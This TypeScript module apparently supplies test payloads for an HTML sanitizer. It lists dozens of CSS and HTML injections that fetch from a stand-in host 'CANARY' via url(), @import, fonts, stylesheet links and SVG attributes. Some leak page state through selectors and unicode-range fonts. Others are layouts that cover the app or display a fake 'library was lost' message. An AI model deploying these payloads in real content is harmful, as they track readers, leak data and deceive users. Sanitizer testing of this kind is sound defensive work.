import type { Payload } from './payload';

/** Properties that fetch what they name; each in an attribute and in a style element. */
const FETCHING: readonly [string, string, boolean][] = [
	['background', 'background: url(URL)', true],
	['background-image', 'background-image: url("URL")', true],
	['background-image as a set', 'background-image: image-set("URL" 1x)', true],
	['background-image as an old set', 'background-image: -webkit-image-set(url(URL) 1x)', true],
	['background-image faded', 'background-image: -webkit-cross-fade(url(URL), url(URL), 50%)', true],
	['border-image', 'border: 9px solid; border-image: url(URL) 9', true],
	['list-style', 'display: list-item; list-style: url(URL)', true],
	['list-style-image', 'display: list-item; list-style-image: url(URL)', true],
	['content', 'content: url(URL)', true],
	['cursor', 'cursor: url(URL), auto', true],
	['mask', 'mask: url(URL)', true],
	['mask-image', '-webkit-mask-image: url(URL)', true],
	['mask-border', '-webkit-mask-box-image: url(URL)', true],
	['filter', 'filter: url(URL#f)', false],
	['backdrop-filter', 'backdrop-filter: url(URL#f)', false],
	['clip-path', 'clip-path: url(URL#c)', true],
	['shape-outside', 'float: left; width: 9px; height: 9px; shape-outside: url(URL)', true],
	['a variable', '--x: url(URL); background: var(--x)', true],
	['a variable that another has', 'background: var(--none, url(URL))', true],
	['offset-path', 'offset-path: url(URL#p)', false],
	['behaviour of old', 'behavior: url(URL); -moz-binding: url(URL)', false],
	['an expression of old', 'width: expression(trap()); background: url(javascript:trap())', false]
];

const inAttributes = FETCHING.map(([property, style, asks], i): Payload => ({
	name: `${property} in an attribute`,
	html: `<p style='${style.replaceAll('URL', `http://CANARY/style-${i}`)}'>a</p>`,
	asks
}));

const inElements = FETCHING.map(([property, style, asks], i): Payload => ({
	name: `${property} in a style element`,
	html: `<style>p.s${i} { ${style.replaceAll('URL', `http://CANARY/sheet-${i}`)} }</style><p class="s${i}">a</p>`,
	asks
}));

/** Ways to write what fetches. */
const written: Payload[] = [
	['with escapes', String.raw`<p style="background: \75\72\6c(http://CANARY/escaped)">a</p>`, true],
	['with comments', '<p style="background/**/:/**/url(http://CANARY/commented)">a</p>', true],
	['in capitals', '<P STYLE="BACKGROUND:URL(http://CANARY/capitals)">a</P>', true],
	['in entities', '<p style="background&colon;url&lpar;http://CANARY/entities&rpar;">a</p>', true],
	['without a scheme', '<p style="background: url(//CANARY/schemeless)">a</p>', true],
	[
		'after what allows alignment',
		'<p style="text-align: center; background: url(http://CANARY/aligned)">a</p>',
		true
	],
	[
		'in an old attribute',
		'<table background="http://CANARY/table"><tr background="http://CANARY/row"><td background="http://CANARY/cell">a</table>',
		true
	],
	['on the body', '<body background="http://CANARY/body" bgcolor="red" text="white">a', true],
	['on a rule', '<hr style="background: url(http://CANARY/rule)" color="red" size="9">', true],
	['in a drawing', '<svg><rect width="9" height="9" style="fill: url(http://CANARY/fill#f)"/></svg>', true],
	[
		'in an attribute of a drawing',
		'<svg><rect width="9" height="9" fill="url(http://CANARY/fill-2#f)" filter="url(http://CANARY/filter#f)"/></svg>',
		true
	],
	[
		'in the stroke and ends of a drawing',
		'<svg><path d="M0 0L9 9" stroke="url(http://CANARY/stroke#s)" marker-end="url(http://CANARY/marker#m)" mask="url(http://CANARY/mask#m)" clip-path="url(http://CANARY/clip#c)"/></svg>',
		true
	],
	['in a formula', '<math style="background: url(http://CANARY/formula)"><mi>x</mi></math>', true],
	[
		'in a formula’s old colours',
		'<math mathbackground="url(http://CANARY/x)" background="url(http://CANARY/x)"><mi mathcolor="red">x</mi></math>',
		false
	]
].map(([how, html, asks]) => ({ name: `a style ${how as string}`, html, asks }) as Payload);

/** What a style sheet can do that no attribute can. */
const sheets: Payload[] = [
	['an import', '<style>@import "http://CANARY/import.css";</style><p>a</p>', true],
	['an import by url', '<style>@import url(http://CANARY/import-url.css) screen;</style>', true],
	['an import with escapes', String.raw`<style>@\69mport "http://CANARY/import-escaped.css";</style>`, true],
	[
		'an import in a layer',
		'<style>@import "http://CANARY/layer.css" layer(x) supports(color: red);</style>',
		true
	],
	['an import in a drawing', '<svg><style>@import "http://CANARY/svg.css";</style></svg>', true],
	[
		'a font',
		'<style>@font-face { font-family: x; src: url(http://CANARY/font.woff2) } p { font-family: x }</style><p>a</p>',
		true
	],
	[
		'a font of single letters',
		'<style>@font-face { font-family: y; src: url(http://CANARY/letter-a); unicode-range: U+0061 } * { font-family: y }</style><p>a</p>',
		true
	],
	[
		'attributes of the page',
		'<style>html[lang^="e"] { background: url(http://CANARY/lang-e) }</style>',
		false
	],
	[
		'what was visited',
		'<style>a:visited { color: red } a { background: url(http://CANARY/link) }</style><a href="https://a.example/">a</a>',
		true
	],
	['what is hovered', '<style>p:hover { background: url(http://CANARY/hover) }</style><p>a</p>', false],
	['what is there', '<style>body:has(p) { background: url(http://CANARY/has) }</style><p>a</p>', true],
	[
		'the width of the window',
		'<style>@media (min-width: 1px) { p { background: url(http://CANARY/media) } }</style><p>a</p>',
		true
	],
	[
		'the container',
		'<style>div { container-type: inline-size } @container (min-width: 1px) { p { background: url(http://CANARY/container) } }</style><div><p>a</p></div>',
		true
	],
	[
		'the start of a style',
		'<style>@starting-style { p { background: url(http://CANARY/start) } } p { transition: all 1s }</style><p>a</p>',
		true
	],
	[
		'keyframes',
		'<style>@keyframes k { to { background: url(http://CANARY/frame) } } p { animation: k 1s infinite }</style><p>a</p>',
		true
	],
	['what stands before', '<style>p::before { content: url(http://CANARY/before) }</style><p>a</p>', true],
	[
		'the marker of an item',
		'<style>li::marker { content: url(http://CANARY/marker) }</style><ul><li>a</ul>',
		true
	],
	[
		'a counter',
		'<style>@counter-style c { system: cyclic; symbols: url(http://CANARY/symbol) } ul { list-style: c }</style><ul><li>a</ul>',
		false
	],
	['a cursor', '<style>* { cursor: url(http://CANARY/cursor), auto !important }</style><p>a</p>', true],
	['a nested rule', '<style>body { & p { background: url(http://CANARY/nested) } }</style><p>a</p>', true],
	['a scope', '<style>@scope (body) { p { background: url(http://CANARY/scope) } }</style><p>a</p>', true],
	[
		'no app any more',
		'<style>body > * { display: none !important } html::after { content: "Your library was lost" }</style>',
		false
	],
	['all over', '<style>* { position: fixed; inset: 0; opacity: 0 }</style><p>a</p>', false],
	['a style by its address', '<link rel="stylesheet" href="http://CANARY/link.css">', true],
	[
		'a style by an address in data',
		'<link rel="stylesheet" href="data:text/css,@import%20%22http://CANARY/data.css%22;">',
		true
	],
	['another style', '<link rel="alternate stylesheet" title="x" href="http://CANARY/alternate.css">', true],
	['a style for paper', '<link rel="stylesheet" media="print" href="http://CANARY/print.css">', true],
	['a style that is not there', '<style media="not all">@import "http://CANARY/not-all.css";</style>', true],
	[
		'a style in a template',
		'<div><template shadowrootmode="open"><style>p { background: url(http://CANARY/shadow) }</style><p>a</p></template></div>',
		true
	],
	[
		'a style in a noscript',
		'<noscript><style>p { background: url(http://CANARY/noscript) }</style></noscript>',
		false
	],
	[
		'a style of a drawing in data',
		`<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='http://CANARY/in-svg'/></svg>">`,
		false
	]
].map(([what, html, asks]) => ({ name: `a style sheet about ${what as string}`, html, asks }) as Payload);

/** Layouts that leave the post. */
const layouts: Payload[] = [
	['over the app', 'position:fixed;inset:0;background:red;z-index:2147483647'],
	['over the list', 'position:absolute;left:-9000px;width:20000px;height:9000px;background:red'],
	['by a margin', 'margin:-900px -900px 0;padding:900px;background:red'],
	['by a transform', 'transform:translate(-600px,-300px) scale(9);background:red'],
	['by its size', 'width:9000px;height:9000px;min-width:9000px;font-size:900px;line-height:90'],
	['by anchors', 'position:fixed;position-anchor:--app;inset-area:all'],
	['as a view that is passed over', 'view-transition-name:root;pointer-events:none;animation:x 1s'],
	['by a shadow and an outline', 'box-shadow:0 0 0 9000px red;outline:9000px solid red'],
	['at the top of all', 'position:sticky;top:0;isolation:auto;will-change:transform;contain:none'],
	['with what is hidden', 'display:none;visibility:hidden;opacity:0;clip-path:inset(100%)']
].map(([how, style]): Payload => ({
	name: `a layout ${how!}`,
	html: `<p style="${style!}">a <b style="${style!}">b</b></p>`
}));

/** Styles that tell the blog who reads, or that leave the post's place. */
export const STYLES: readonly Payload[] = [...inAttributes, ...inElements, ...written, ...sheets, ...layouts];
